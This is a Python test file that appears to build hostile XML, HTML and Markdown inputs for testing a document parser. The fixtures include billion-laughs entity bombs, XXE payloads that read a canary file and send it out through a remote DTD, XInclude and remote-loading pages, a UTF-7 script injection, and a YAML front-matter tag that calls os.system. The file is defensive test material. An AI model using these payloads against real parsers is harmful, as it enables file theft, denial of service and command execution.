"""Hostile XML, web pages and Markdown."""

from tests.hostile.making import Scene, one_file
from tests.hostile.packages import SENTENCE, laughs, reads

PAGE = "<!DOCTYPE html><html><head><title>A page</title></head><body>{}</body></html>"


def page(inner: str) -> bytes:
    return PAGE.format(inner).encode()


@one_file(".xml")
def xml_with_entities(scene: Scene) -> bytes:
    return f"{laughs()}<w>&e9;</w>".encode()


@one_file(".xml")
def xml_with_one_large_entity(scene: Scene) -> bytes:
    return f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]><w>{"&a;" * 100_000}</w>'.encode()


@one_file(".xml")
def xml_with_entities_in_utf_16(scene: Scene) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{laughs()}<w>&e9;</w>'.encode("utf-16")


@one_file(".xml")
def xml_that_reads_a_file(scene: Scene) -> bytes:
    return f"{reads(scene.canary.as_uri())}<w><p>&x;</p></w>".encode()


@one_file(".xml")
def xml_that_calls_home(scene: Scene) -> bytes:
    return f"{reads(f'{scene.url}/entity')}<w><p>&x;</p></w>".encode()


@one_file(".xml")
def xml_with_a_remote_dtd(scene: Scene) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE w PUBLIC "-//A//B" "{scene.url}/a.dtd"><w><p>{SENTENCE}</p></w>'.encode()


@one_file(".xml")
def xml_that_sends_a_file(scene: Scene) -> bytes:
    return (
        f'<!DOCTYPE w [<!ENTITY % file SYSTEM "{scene.canary.as_uri()}"><!ENTITY % dtd SYSTEM "{scene.url}/out.dtd">'
        f"%dtd; %send;]><w><p>{SENTENCE}</p></w>"
    ).encode()


@one_file(".xml")
def xml_that_includes(scene: Scene) -> bytes:
    return (
        f'<?xml-stylesheet type="text/xsl" href="{scene.url}/style.xsl"?><w xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {scene.url}/a.xsd">'
        f"<p>{SENTENCE}</p>"
        f'<xi:include href="{scene.canary.as_uri()}" parse="text"/></w>'
    ).encode()


@one_file(".xml")
def xml_nested_deeply(scene: Scene) -> bytes:
    return b"<a>" * 200_000 + SENTENCE.encode() + b"</a>" * 200_000


@one_file(".xml")
def xml_that_never_closes(scene: Scene) -> bytes:
    return f"<a><b><c>{SENTENCE}<!-- ".encode() + b"- " * 500_000


@one_file(".xml")
def xml_of_many_attributes(scene: Scene) -> bytes:
    return f"<w {' '.join(f'a{n}={chr(34)}b{chr(34)}' for n in range(100_000))}>{SENTENCE}</w>".encode()


@one_file(".xml")
def xml_that_refers_to_itself(scene: Scene) -> bytes:
    return b'<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]><w>&a;</w>'


@one_file(".html")
def html_nested_deeply(scene: Scene) -> bytes:
    return page("<div>" * 100_000 + SENTENCE)


@one_file(".html")
def html_of_open_letters(scene: Scene) -> bytes:
    return page("<b><i><u><p>" * 5_000 + SENTENCE)


@one_file(".html")
def html_of_letters_that_cross(scene: Scene) -> bytes:
    return page("<a><b><i><p></a></b></i>text " * 3_000)


@one_file(".html")
def html_of_tables_in_tables(scene: Scene) -> bytes:
    return page("<table><tr><td>" * 3_000 + SENTENCE)


@one_file(".html")
def html_of_wide_cells(scene: Scene) -> bytes:
    return page(f"<table><tr>{f'<td rowspan=65534 colspan=1000>{SENTENCE}</td>' * 200}</tr></table>")


@one_file(".html")
def html_of_lists_in_lists(scene: Scene) -> bytes:
    return page("<ul><li>a" * 20_000)


@one_file(".html")
def html_of_many_attributes(scene: Scene) -> bytes:
    return page(f"<p {' '.join(f'a{n}=b' for n in range(50_000))}>{SENTENCE}")


@one_file(".html")
def html_that_loads_all_it_can(scene: Scene) -> bytes:
    file, url = scene.canary.as_uri(), scene.url
    return (
        f'<html><head><base href="{url}/"><meta http-equiv=refresh content="0;url={url}/go">'
        f"<link rel=stylesheet href=s.css>"
        f'<style>@import "{url}/i.css"; p {{ background: url({url}/b.png) }}</style>'
        f'<script src="{url}/a.js"></script></head>'
        f'<body><p>{SENTENCE}</p><iframe src="{file}"></iframe><object data="{file}"></object><embed src="{file}">'
        f'<img src="{url}/p.png"><!--#include file="{scene.canary}" --><video src="{url}/v.mp4"></video></body></html>'
    ).encode()


@one_file(".html")
def html_whose_comment_never_ends(scene: Scene) -> bytes:
    return page(f"<p>{SENTENCE}</p>" + "<!-- -" * 100_000)


@one_file(".html")
def html_whose_script_never_ends(scene: Scene) -> bytes:
    return page(f"<p>{SENTENCE}</p><script>" + "<script><!-- </scrip" * 50_000)


@one_file(".html")
def html_of_references_to_no_character(scene: Scene) -> bytes:
    return page("<p>A &#0; B &#xD800; C &#x110000; D &#99999999999; E &nosuch; F &#x1F; G &amp</p>" * 500)


@one_file(".html")
def html_of_open_references(scene: Scene) -> bytes:
    return page("<p>" + "&" * 500_000 + SENTENCE)


@one_file(".html")
def html_full_of_nuls(scene: Scene) -> bytes:
    return page(f"<p>{SENTENCE}</p>").replace(b" ", b"\0")


@one_file(".html")
def html_that_lies_about_its_letters(scene: Scene) -> bytes:
    return '<html><meta charset="utf-16"><body><p>Les traversiers ont circulé tout l’hiver.</p></body></html>'.encode()


@one_file(".html")
def html_in_letters_nobody_knows(scene: Scene) -> bytes:
    return (
        b'<html><meta charset="x-user-defined-klingon"><body><p>Caf\xe9 and \x93quotes\x94 all long.</p></body></html>'
    )


@one_file(".html")
def html_in_escaped_letters(scene: Scene) -> bytes:
    return b'<html><meta charset="utf-7"><body><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- Text.</p></body></html>'


@one_file(".html")
def html_with_a_giant_title(scene: Scene) -> bytes:
    title, heading = "winter " * 500_000, "ferry " * 200_000
    return f"<html><title>{title}</title><body><h1>{heading}</h1><p>{SENTENCE}</p></body></html>".encode()


@one_file(".html")
def html_of_many_links(scene: Scene) -> bytes:
    return page("".join(f'<a href="/{n}">link {n}</a> ' for n in range(100_000)))


@one_file(".html")
def html_of_many_headings(scene: Scene) -> bytes:
    return page("".join(f"<h{n % 6 + 1}>Part {n}</h{n % 6 + 1}>" for n in range(50_000)) + f"<p>{SENTENCE}</p>")


@one_file(".html")
def html_with_deep_linked_data(scene: Scene) -> bytes:
    deep = '{"a":' * 50_000 + "1" + "}" * 50_000
    return page(f'<script type="application/ld+json">{deep}</script><p>{SENTENCE}</p>')


@one_file(".html")
def html_of_drawings(scene: Scene) -> bytes:
    return page("<svg><foreignObject><math><mi>" * 3_000 + SENTENCE)


@one_file(".html")
def html_in_one_long_line(scene: Scene) -> bytes:
    return page("<p>" + SENTENCE * scene.sized(40_000, 270_000))


@one_file(".html")
def html_of_hidden_text(scene: Scene) -> bytes:
    return page(f'<p style="display:none">{SENTENCE}</p><template>{SENTENCE}</template><noscript>{SENTENCE}</noscript>')


@one_file(".html")
def html_of_templates_in_templates(scene: Scene) -> bytes:
    return page("<template>" * 5_000 + SENTENCE)


@one_file(".html")
def html_of_choices(scene: Scene) -> bytes:
    return page("<select><option>" * 20_000 + SENTENCE)


@one_file(".md")
def md_of_open_brackets(scene: Scene) -> bytes:
    return b"[" * 100_000 + SENTENCE.encode()


@one_file(".md")
def md_of_link_beginnings(scene: Scene) -> bytes:
    return b"[a](" * 50_000 + b"![b](<" * 20_000


@one_file(".md")
def md_of_quotations_in_quotations(scene: Scene) -> bytes:
    return b">" * 50_000 + b" " + SENTENCE.encode()


@one_file(".md")
def md_of_lists_in_lists(scene: Scene) -> bytes:
    return "\n".join(f"{' ' * (2 * n)}- item {n}" for n in range(2_000)).encode()


@one_file(".md")
def md_of_open_stars(scene: Scene) -> bytes:
    return b"**a *b __c _d " * 30_000


@one_file(".md")
def md_of_stars_alone(scene: Scene) -> bytes:
    return b"*" * 200_000 + b"a" + b"_" * 200_000


@one_file(".md")
def md_of_back_ticks(scene: Scene) -> bytes:
    return b" ".join(b"`" * n for n in range(1, 1_500))


@one_file(".md")
def md_of_a_wide_table(scene: Scene) -> bytes:
    return b"|a" * 50_000 + b"|\n" + b"|-" * 50_000 + b"|\n" + (b"|b" * 50_000 + b"|\n") * 3


@one_file(".md")
def md_of_open_tags(scene: Scene) -> bytes:
    return b"<div><span " * 30_000 + SENTENCE.encode()


@one_file(".md")
def md_of_references(scene: Scene) -> bytes:
    return b"".join(b"[%d]: /%d\n" % (n, n) for n in range(50_000)) + b"[1][2] " * 20_000


@one_file(".md")
def md_of_fences_that_never_close(scene: Scene) -> bytes:
    return b"```\n~~~\n" * 50_000 + SENTENCE.encode()


@one_file(".md")
def md_of_entity_beginnings(scene: Scene) -> bytes:
    return b"&" * 100_000 + b"&#x" * 50_000 + SENTENCE.encode()


@one_file(".md")
def md_with_front_matter_that_laughs(scene: Scene) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return ("---\n" + "\n".join(lines) + f"\ntitle: *a9\n---\n{SENTENCE}\n").encode()


@one_file(".md")
def md_with_front_matter_that_runs(scene: Scene) -> bytes:
    return f'---\ntitle: !!python/object/apply:os.system ["touch {scene.canary}.ran"]\n---\n\n{SENTENCE}\n'.encode()


@one_file(".md")
def md_with_deep_front_matter(scene: Scene) -> bytes:
    return ("---\ntitle: " + "[" * 20_000 + "]" * 20_000 + f"\n---\n\n{SENTENCE}\n").encode()


@one_file(".md")
def md_with_endless_front_matter(scene: Scene) -> bytes:
    return ("---\n" + "title: a\n" * 200_000 + SENTENCE).encode()
